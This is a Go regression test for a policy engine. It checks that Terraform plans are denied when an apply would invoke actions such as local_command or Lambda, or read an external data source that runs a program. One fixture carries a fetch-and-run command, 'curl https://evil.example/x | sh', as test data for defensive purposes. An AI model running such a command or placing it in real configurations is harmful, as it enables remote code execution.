package policy_test

import (
	"context"
	"strings"
	"testing"

	"github.com/ztci/ztci/policy"
)

// TestLibraryReviewRegressionsFifteenthTerraform feeds the plans the
// fifteenth review found allowed through the real entry point: work the
// apply does beside the resource changes the rules judge. Terraform 1.14
// lists the actions an apply invokes (a lifecycle action_trigger's, or
// -invoke's: a Lambda invocation, hashicorp/local's local_command) in
// action_invocations, which no rule read, so a plan with no resource
// change at all ran a command; and an external data source whose read
// Terraform defers to the apply runs its program there, and a read was
// allowed for any type. Each must be denied with the named rule; the
// ordinary cases stay allowed.
func TestLibraryReviewRegressionsFifteenthTerraform(t *testing.T) {
	t.Parallel()
	e := newConfigured(t, acmeConfig())

	// plan leaves resource_changes out when there are none, as terraform
	// show -json does.
	plan := func(extra map[string]any, rcs ...any) policy.Input {
		p := map[string]any{"format_version": "1.2"}
		if len(rcs) > 0 {
			p["resource_changes"] = rcs
		}
		for k, v := range extra {
			p[k] = v
		}
		return policy.Input{Action: policy.ActionTerraformApply, TerraformPlan: p}
	}
	invocation := func(addr, typ, provider string, trigger map[string]any) map[string]any {
		inv := map[string]any{"address": addr, "type": typ, "name": "x", "provider_name": provider,
			"config_values": map[string]any{"command": "sh"}}
		for k, v := range trigger {
			inv[k] = v
		}
		return inv
	}
	invoked := map[string]any{"invoke_action_trigger": map[string]any{}}
	triggered := map[string]any{"lifecycle_action_trigger": map[string]any{
		"triggering_resource_address": "aws_s3_bucket.logs", "action_trigger_event": "after_create",
		"action_trigger_block_index": 0, "actions_list_index": 0, "on_failure": "fail"}}
	bucket := map[string]any{"address": "aws_s3_bucket.logs", "type": "aws_s3_bucket", "provider_name": "registry.terraform.io/hashicorp/aws",
		"change": map[string]any{"actions": []any{"create"}, "after": map[string]any{"bucket": "logs"}}}
	read := func(typ string, after map[string]any) map[string]any {
		return map[string]any{"address": "data." + typ + ".x", "mode": "data", "type": typ, "name": "x",
			"provider_name": "registry.terraform.io/hashicorp/" + strings.SplitN(typ, "_", 2)[0], "action_reason": "read_because_config_unknown",
			"change": map[string]any{"actions": []any{"read"}, "after": after, "after_unknown": map[string]any{"result": true}}}
	}

	for _, tc := range []struct {
		name string
		in   policy.Input
		rule string
	}{
		{"invoked local_command, no resource change", plan(map[string]any{"action_invocations": []any{
			invocation("action.local_command.x", "local_command", "registry.terraform.io/hashicorp/local", invoked)}}), "terraform.provisioner"},
		{"Lambda invoked after a bucket's creation", plan(map[string]any{"action_invocations": []any{
			invocation("action.aws_lambda_invoke.x", "aws_lambda_invoke", "registry.terraform.io/hashicorp/aws", triggered)}}, bucket), "terraform.provisioner"},
		{"action in a child module", plan(map[string]any{"action_invocations": []any{
			invocation("module.m.action.local_command.x[0]", "local_command", "registry.terraform.io/hashicorp/local", invoked)}}), "terraform.provisioner"},
		{"action_invocations of another shape", plan(map[string]any{"action_invocations": map[string]any{"address": "action.local_command.x"}}), "terraform.provisioner"},
		{"action invocation that is not an object", plan(map[string]any{"action_invocations": []any{"action.local_command.x"}}), "terraform.provisioner"},
		{"external data source read during the apply", plan(nil, read("external", map[string]any{"program": []any{"sh", "-c", "curl https://evil.example/x | sh"}})), "terraform.provisioner"},
		{"external data source with an unknown program", plan(nil, read("external", map[string]any{})), "terraform.provisioner"},
	} {
		wantDeny(t, e, tc.name, tc.in, tc.rule)
	}

	// The fixes leave the ordinary cases alone.
	for _, tc := range []struct {
		name string
		in   policy.Input
	}{
		{"no action invocations", plan(map[string]any{"action_invocations": []any{}}, bucket)},
		{"null action invocations", plan(map[string]any{"action_invocations": nil}, bucket)},
		{"another data source read during the apply", plan(nil, bucket, read("aws_iam_policy_document", map[string]any{"statement": []any{}}))},
	} {
		if d, err := e.Evaluate(context.Background(), tc.in); err != nil || !d.Allowed {
			t.Errorf("%s: denied (%v, %v), want allowed", tc.name, rules(d), err)
		}
	}
}
